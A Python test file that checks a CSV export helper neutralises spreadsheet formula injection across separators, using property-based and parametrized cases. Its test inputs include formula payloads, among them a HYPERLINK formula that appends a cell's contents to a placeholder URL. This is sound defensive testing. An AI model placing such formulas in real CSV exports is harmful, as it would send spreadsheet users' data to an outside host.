"""CSV that is opened with any separator holds no formula, and says the same when it comes back."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from danchu.kernel.csv_cells import csv_lines, safe_cell, unguarded
from danchu.kernel.text import normal

TEXT = st.text(alphabet="a1=+-@;,\t\n\" '＝ừ", max_size=12)


def naive_cells(line):
    """Cells as a reader sees them that splits at any separator and knows no quotes."""
    for mark in ";\t\n\r":
        line = line.replace(mark, "\0")
    return [cell.strip('"') for cell in line.split("\0")]


@pytest.mark.case("FA17", "SE-L11")
@given(st.lists(TEXT, min_size=1, max_size=3))
def test_no_cell_begins_a_formula_whatever_the_separator(texts):
    (line,) = csv_lines([texts])
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(line, newline=""), delimiter=delimiter):
            assert not any(cell.startswith(("=", "+", "-", "@", "＝")) for cell in row)
    for cell in naive_cells(line.rstrip("\r\n")):
        # With a comma inside, the quotes of the file hold the cell together.
        assert not cell.startswith(("=", "＝", "+", "@"))


@pytest.mark.case("FA17")
@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("a;=1+1", "a;'=1+1"),
        ("=1+1", "'=1+1"),
        ("+84 912", "'+84 912"),
        ("  =1", "'  =1"),
        ('Họp tổ 3;=HYPERLINK("http://x"&A1)', 'Họp tổ 3;\'=HYPERLINK("http://x"&A1)'),
        ("Họp; - nội dung", "Họp; - nội dung"),
        ("A = B - C", "A = B - C"),
        (None, ""),
        (-5, -5),
    ],
)
def test_what_a_spreadsheet_would_evaluate_is_marked(text, cell):
    assert safe_cell(text) == cell
    (line,) = csv_lines([[text]])
    assert line.startswith('"') and line.endswith('"\r\n')


@given(st.text(alphabet="a1=+-@;\t ừ", max_size=12))
def test_a_marked_cell_is_read_as_it_was(text):
    assert unguarded(safe_cell(text)) == normal(text)
